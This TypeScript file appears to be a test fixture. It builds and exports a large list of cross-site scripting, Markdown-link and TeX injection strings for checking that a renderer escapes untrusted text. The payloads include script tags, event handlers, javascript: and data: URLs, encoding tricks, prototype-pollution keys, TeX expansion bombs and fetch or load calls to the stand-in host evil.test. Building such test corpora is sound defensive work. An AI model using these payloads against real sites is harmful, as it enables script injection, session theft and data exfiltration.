/** What an injected script would do, each in a way that the instruments of the page notice. */
const acts = ['alert(1)', 'XSS()', "fetch('https://evil.test/x')", "top['al'+'ert'](1)", "location='https://evil.test/'"];

const events = [
  'onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'ontransitionend', 'onpointerenter',
  'onscroll', 'onpageshow', 'onhashchange', 'oncanplay', 'onbeforetoggle',
];

const elements = [
  'img src=x', 'svg', 'body', 'iframe srcdoc=x', 'details open', 'input autofocus', 'video src=x', 'math', 'marquee', 'select autofocus', 'object data=x',
];

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)', '\u0001javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:alert(1)', 'command:workbench.action.reloadWindow', 'vscode://file/etc/passwd', 'file:///etc/passwd', '//evil.test/x', 'blob:https://evil.test/1',
  'https://evil.test/"onmouseover="alert(1)', "https://evil.test/'onmouseover='alert(1)", 'https://evil.test/</script><script>alert(1)</script>', 'view-source:javascript:alert(1)',
];

const markup = [
  '<script>alert(1)</script>', '<script src=https://evil.test/x.js></script>', '<SCRIPT>XSS()</SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>',
  '<style>@import "https://evil.test/x.css";</style>', '<style>*{background:url(https://evil.test/x)}</style>', '<link rel=stylesheet href=https://evil.test/x.css>',
  '<link rel=prefetch href=https://evil.test/x>', '<meta http-equiv=refresh content="0;url=https://evil.test/">', '<base href=https://evil.test/>',
  '<iframe src=javascript:alert(1)>', '<iframe src=https://evil.test/></iframe>', '<embed src=https://evil.test/x>', '<object data=https://evil.test/x></object>',
  '<form action=https://evil.test/><button>x</button></form>', '<button form=x formaction=javascript:alert(1)>x</button>', '<audio src=https://evil.test/x autoplay>',
  '<video poster=https://evil.test/x>', '<img src=https://evil.test/x.png>', '<img srcset="https://evil.test/x 1x">', '<image href=https://evil.test/x>',
  '<svg><script>alert(1)</script></svg>', '<svg><use href=https://evil.test/x#y>', '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<math href="javascript:alert(1)">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<portal src=https://evil.test/>', '<xml onreadystatechange=alert(1)>', '<a href=javascript:alert(1)>x</a>',
  '<a ping=https://evil.test/ href=https://evil.test/>x</a>', '<div style="background:url(https://evil.test/x)">x</div>', '<div style=width:expression(alert(1))>x</div>',
  '<x contenteditable onblur=alert(1) autofocus>', '<input id=data value=x>', '<div id=page name=vscode>', '<a id=acquireVsCodeApi>', '<slot onslotchange=alert(1)>',
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '`><script>alert(1)</script>', '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='",
  '\\"-alert(1)//', "';alert(1)//", '";alert(1)//', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<%= alert(1) %>', '#{alert(1)}',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E', '\u202E<script>alert(1)</script>', '\uFEFF<script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '\u2028alert(1)\u2029',
  '\uD800<script>alert(1)</script>', '__proto__', 'constructor', 'toString', '{"__proto__":{"x":1}}', '<script\u00A0>alert(1)</script>', '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>', '<script>alert(1)', '<img src=x onerror=alert(1)', '<img/src=x/onerror=alert(1)>', '<img """><script>alert(1)</script>">',
  '<img src=x:alert(1) onerror=eval(src)>', '<a href="x`" onclick=alert(1)>', '<plaintext>', '<xmp><script>alert(1)</script></xmp>', '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
];

const tex = [
  '\\href{javascript:alert(1)}{x}', '\\url{javascript:alert(1)}', '\\includegraphics{https://evil.test/x.png}', '\\class{x}{y}', '\\style{background:url(https://evil.test/x)}{y}',
  '\\id{page}{y}', '\\data{onclick=alert(1)}{y}', '\\htmlData{x=y}{z}', '\\htmlStyle{color:red}{z}', '\\text{<script>alert(1)</script>}', '\\text{<img src=x onerror=alert(1)>}',
  '\\unicode{x3cscript}', '\\color{red;background:url(https://evil.test/x)}{y}', '\\textcolor{"onclick="alert(1)}{y}', '\\rule{1e9em}{1e9em}', '\\kern{1e9em}',
  '\\def\\x{\\x\\x}\\x', '\\newcommand{\\x}{\\x}\\x', '\\tag{<script>alert(1)</script>}x', '\\label{page}\\tag{1}x', '{'.repeat(500), '\\frac'.repeat(300), '\\sqrt{'.repeat(200),
  '\\begin{array}{' + 'c'.repeat(500) + '}x\\end{array}', '\\require{html}\\href{javascript:alert(1)}{x}', '\\mathchoice{<script>}{}{}{}', '\\char"3C script\\char"3E', '\\verb|<script>alert(1)</script>|',
];

/**
 * Strings that try to get out of the text they stand in: every kind of element, event handler, address,
 * broken markup, Markdown and TeX that is known to have run somewhere.
 */
export const injections: readonly string[] = [
  ...new Set([
    ...markup,
    ...elements.flatMap((element, i) => events.filter((_, j) => (i + j) % 3 === 0).map((event, j) => `<${element} ${event}=${acts[(i + j) % acts.length] ?? ''}>`)),
    ...addresses,
    ...addresses.map((address) => `[x](${address})`),
    ...addresses.map((address) => `<${address}>`),
    ...addresses.map((address) => `![x](<${address}>)`),
    ...addresses.map((address) => `[x]\n\n[x]: ${address}`),
    ...addresses.map((address) => `[x](https://a.test "${address}")`),
    ...tex.map((formula) => `$${formula}$`),
    ...tex.slice(0, 12).map((formula) => `\\[${formula}\\]`),
  ]),
];
